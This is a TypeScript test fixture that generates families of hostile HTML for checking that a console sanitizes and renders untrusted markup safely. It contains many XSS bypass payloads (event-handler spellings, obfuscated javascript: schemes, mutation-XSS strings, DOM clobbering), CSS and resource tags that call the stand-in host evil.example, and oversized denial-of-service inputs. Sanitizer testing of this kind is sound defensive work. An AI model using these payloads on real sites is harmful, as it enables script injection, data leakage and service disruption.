/** A hostile document and the family of its attack. */
export interface HostileDocument {
  readonly family: string
  readonly html: string
}

/** The script that each document tries to run. */
const run = 'window.ran=(window.ran||0)+1'
const hostileAddress = 'https://evil.example/x'

const scripted = `<img src=x onerror="${run}">`

const handlers =
  'onclick onload onerror onmouseover onfocus onanimationstart ontoggle onbegin onpointerenter onwheel onbeforeinput'
    .concat(' oncontentvisibilityautostatechange onscrollend')
    .split(' ')
const carriers = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'p tabindex=1 autofocus']

/** Spells one handler in ways that a filter might overlook. */
const listHandlerSpellings = (name: string): readonly string[] => [
  `<img src=x ${name}="${run}">`,
  `<img src=x ${name.toUpperCase()}='${run}'>`,
  `<img/src=x/${name}=${run}>`,
  `<img src=x\n\t\f${name}\n=\n"${run}">`,
  `<p style="x" "${name}="${run}">`,
  `<p a='"'${name}="${run}">x</p>`,
]

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `java\0script:${run}`,
  ` \u0001\u0008javascript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61&#x76&#x61script:${run}`,
  `&Tab;javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&NewLine;:${run}`,
  `\u00a0javascript:${run}`,
  `view-source:javascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https:evil`,
  `https://user:password@evil.example/`,
  `channel-console://AdminLogin?adminId=1&channelId=1&loginTime=1&loginKey=1`,
]
const places = ['a href', 'img src', 'iframe src', 'form action', 'object data', 'area href']
const rawPlaces = [
  'embed src',
  'svg><a xlink:href',
  'math><mtext href',
  'base href',
  'link rel=stylesheet href',
]

const nested = [
  'frameset',
  'html',
  'body',
  'head',
  'template',
  'svg',
  'math',
  'noscript',
  'select',
  'plaintext',
  'xmp',
  'textarea',
  'title',
  'style',
  'script',
  'iframe',
  'noembed',
  'noframes',
  'table',
  'button',
  'marquee',
  'object',
  'caption',
  'option',
  'form',
]

/** Documents that become active when their sanitized form is serialized and parsed again. */
const mutating = [
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${scripted}"></a>`,
  `<form><math><mtext></form><form><mglyph><style></math>${scripted}`,
  `<svg></p><style><a id="</style>${scripted}">`,
  `<noscript><p title="</noscript>${scripted}">`,
  `<svg><p><style><g title="</style>${scripted}">`,
  `<table><caption><svg><title><template><style></title>${scripted}`,
  `<select><iframe></select>${scripted}`,
  `<math><annotation-xml encoding="text/html"><style><img src onerror="${run}">`,
  `<svg><foreignObject><p><svg><desc>${scripted}`,
  `<a><svg><a><title><xmp><a id="</xmp>${scripted}">`,
  `<listing>\n\n&lt;img src=x onerror=${run}&gt;</listing>`,
  `<p>&lt;script&gt;${run}&lt;/script&gt;</p>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!--a--!><img src=x onerror="${run}">`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `<img alt="\`><script>${run}</script>">`,
  `<a href="x" title='"><img src=x onerror=${run}>'>x</a>`,
]

const styles = [
  'position:fixed;inset:0;z-index:2147483647;background:red',
  'position:absolute;top:-9999px;left:0;width:100vw;height:100vh',
  'position:sticky;top:0',
  'z-index:99999;opacity:0',
  'width:999999px;height:999999px',
  'font-size:99999px;line-height:9999',
  'font-size:1e9px',
  'font-size:calc(1px * 99999)',
  'margin:-9999px;padding:99999px',
  'margin-left:-500px;text-indent:-9999px',
  'transform:scale(1000);zoom:50',
  'transform:translate(-50vw,-50vh)',
  `background:url(${hostileAddress})`,
  `background-image:url("${hostileAddress}")`,
  `background:\\75rl(${hostileAddress})`,
  `color:red;background:/**/url(${hostileAddress})`,
  `list-style:url(${hostileAddress});list-style-image:url(${hostileAddress})`,
  `border-image:url(${hostileAddress}) 30 round;border:1px solid url(${hostileAddress})`,
  `cursor:url(${hostileAddress}),auto;content:url(${hostileAddress})`,
  `background:image-set("${hostileAddress}" 1x);mask:url(${hostileAddress})`,
  `-webkit-mask-image:url(${hostileAddress});filter:url(${hostileAddress}#x)`,
  `@import "${hostileAddress}";behavior:url(${hostileAddress})`,
  `width:expression(${run})`,
  `-moz-binding:url(${hostileAddress}#x)`,
  `animation:spin 1s;animation-name:x`,
  `display:none;visibility:hidden;pointer-events:none`,
  `float:left;clear:both;overflow:visible;contain:none`,
  `--x:url(${hostileAddress});color:var(--x);background:env(x)`,
  `color:rgb(var(--x));background-color:attr(data-x)`,
  `all:initial;display:block`,
  `color:red!important;position:fixed!important`,
  `font:9999px/9999px x;inset:0;box-shadow:0 0 0 9999px red`,
  `outline:9999px solid red;outline-offset:-5000px`,
  `columns:9999;column-width:1px;writing-mode:vertical-rl;direction:rtl`,
  `;;;:;a;:b;color`,
]

const loading = [
  `<img srcset="${hostileAddress} 1x, ${hostileAddress} 2x" sizes="100vw">`,
  `<picture><source srcset="${hostileAddress}"><img src="${hostileAddress}"></picture>`,
  `<img src="${hostileAddress}" lowsrc="${hostileAddress}" dynsrc="${hostileAddress}" longdesc="${hostileAddress}">`,
  `<image src="${hostileAddress}">`,
  `<input type=image src="${hostileAddress}">`,
  `<video poster="${hostileAddress}" src="${hostileAddress}" autoplay><source src="${hostileAddress}"><track src="${hostileAddress}"></video>`,
  `<audio src="${hostileAddress}" autoplay></audio>`,
  `<link rel=stylesheet href="${hostileAddress}"><link rel=preload as=image href="${hostileAddress}"><link rel=dns-prefetch href="${hostileAddress}">`,
  `<meta http-equiv=refresh content="0;url=${hostileAddress}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href="https://evil.example/"><img src="a.png"><a href="b">b</a>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe><frame src="${hostileAddress}">`,
  `<object data="${hostileAddress}" type="text/html"></object><embed src="${hostileAddress}"><applet code="${hostileAddress}"></applet>`,
  `<form action="${hostileAddress}"><input name=q value=1><button formaction="javascript:${run}">go</button></form>`,
  `<isindex action="javascript:${run}" type=submit>`,
  `<table background="${hostileAddress}"><tr><td background="${hostileAddress}">x</td></tr></table>`,
  `<body background="${hostileAddress}" onload="${run}">`,
  `<a ping="${hostileAddress}" href="https://example.com" target=_top download>x</a>`,
  `<svg><image href="${hostileAddress}"/><use href="${hostileAddress}#x"/><feImage href="${hostileAddress}"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/><set attributeName=onload to="${run}"/></svg>`,
  `<svg><script href="${hostileAddress}"></script></svg><script type=module src="${hostileAddress}"></script>`,
  `<style>@import url(${hostileAddress});*{position:fixed;background:url(${hostileAddress})}</style>`,
  `<math><maction actiontype="statusline#${hostileAddress}" xlink:href="javascript:${run}">x</maction></math>`,
  `<portal src="${hostileAddress}"></portal><fencedframe src="${hostileAddress}"></fencedframe>`,
  `<dialog open onclose="${run}"><p popover id=p>x</p><button popovertarget=p>x</button></dialog>`,
  `<template shadowrootmode=open><img src="${hostileAddress}" onerror="${run}"></template>`,
  `<div is="x-evil" slot=a part=b id=root class=root name=bridge>clobber</div>`,
  `<form name=bridge><input name=request></form><img name=console><a id=bridge></a>`,
  `<p contenteditable autofocus accesskey=x tabindex=-1 draggable=true inert hidden lang=x>attributes</p>`,
]

const repeat = (part: string, times: number) => part.repeat(times)

const sizes = [
  repeat('<div>', 3000) + 'deep',
  repeat('<b><i><u>', 2000) + 'deep',
  repeat('<table><tr><td>', 600) + 'deep',
  repeat('<ul><li>', 2000),
  repeat('<blockquote>', 5000) + repeat('</blockquote>', 5000),
  repeat('<p>x', 60_000),
  repeat('x', 3_000_000),
  repeat('x ', 2_000_000),
  repeat('<br>', 500_000),
  repeat('<', 1_000_000),
  repeat('&amp;', 400_000),
  repeat('&', 1_000_000),
  repeat('<a href="', 100_000),
  `<p ${repeat('a=1 ', 300_000)}>x</p>`,
  `<p style="${repeat('color:red;', 100_000)}">x</p>`,
  `<p title="${repeat('y', 3_000_000)}">x</p>`,
  `<table><tr><td colspan=65535 rowspan=65535>${repeat('<td colspan=1000 rowspan=65534>x', 500)}</table>`,
  // Each paragraph would reopen all elements left open in the one before.
  `<p>${Array.from({ length: 5000 }, (_, index) => `<b a=${index}>`).join('')}x</p>${repeat('<p>x', 5000)}`,
  `<p>${Array.from({ length: 3000 }, (_, index) => `<font color=#${index}>`).join('')}${repeat('</p><p>y', 3000)}`,
  repeat('<a href=https://example.com><b>', 4000),
  repeat('<!--', 300_000),
  repeat('<script>', 300_000),
  repeat('<table>', 5000) + repeat('<td>x', 5000),
  repeat('<img src=x>', 5000),
  repeat('<h1>', 3000) + repeat('</b>', 3000),
  `<p ${Array.from({ length: 200_000 }, (_, index) => `a${index}`).join(' ')}>x</p>`,
  repeat('<x-y>', 9000) + repeat('</y-x>', 200_000),
  repeat('<svg>', 200) + repeat('</x>', 200_000),
  `<table>${repeat('x<hr>', 20_000)}`,
  repeat('<!---->', 200_000),
]

const characters = [
  `<p>\0a\0b\0c</p><scr\0ipt>${run}</scr\0ipt>`,
  `<img src="x\0" \0onerror="${run}">`,
  `<p>\u202e\u2066exe.gpj\u2069\u202c</p><a href="https://example.com/\u202egnp.exe">\u202emoc.knab</a>`,
  `<p>\ufeff\u200b\u200e\u2028\u2029\ud800\udfff\ufffe</p>`,
  `<p>${'Z' + repeat('\u0310\u0489\u035c', 400)}</p>`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<\u0130mg src=x onerror="${run}"><\u212aeygen autofocus onfocus="${run}">`,
  `\x1b$B<img src=x onerror="${run}">\x1b(B`,
]

const unfinished = [
  `<img src=x onerror="${run}"`,
  `<img src="x onerror=${run}>`,
  `<a href='https://example.com`,
  '<',
  '</',
  '<!',
  '<!-',
  '<a',
  '<a ',
  '<a b=',
  '</ p onclick=x>text',
  '</p x="y">text',
  `<p/onclick=${run}//>x`,
  `<a href=https://example.com/${repeat('a', 5000)}>long</a>`,
  '',
  '   ',
  '<p></p>',
]

const createFamily = (name: string, all: readonly string[]): readonly HostileDocument[] =>
  all.map(html => ({ family: name, html }))

/** Hostile documents that the console must render without harm. */
export const hostileDocuments: readonly HostileDocument[] = [
  ...createFamily('handlers', handlers.flatMap(listHandlerSpellings)),
  ...createFamily(
    'carriers',
    carriers.flatMap(carrier =>
      ['onload', 'onfocus', 'ontoggle'].map(name => `<${carrier} ${name}="${run}">x`),
    ),
  ),
  ...createFamily(
    'addresses',
    places.flatMap(place => schemes.map(scheme => `<${place}="${scheme}">x</${place.split(' ')[0]}>`)),
  ),
  ...createFamily(
    'other addresses',
    rawPlaces.map(place => `<${place}="javascript:${run}">x`),
  ),
  ...createFamily(
    'nesting',
    nested.flatMap(tag => [
      `<${tag}><${tag}>${scripted}`,
      `<p><${tag} onload="${run}"><frameset onload="${run}"><frame src="javascript:${run}">${scripted}</${tag}>`,
      `<svg><${tag}><math><${tag}><template>${scripted}</${tag}></svg>`,
    ]),
  ),
  ...createFamily('mutating', mutating),
  ...createFamily(
    'styles',
    styles.flatMap(style => [
      `<p style="${style.replaceAll('"', '&quot;')}">x</p>`,
      `<img src=x style='${style}'>`,
    ]),
  ),
  ...createFamily('loading', loading),
  ...createFamily('sizes', sizes),
  ...createFamily('characters', characters),
  ...createFamily('unfinished', unfinished),
]
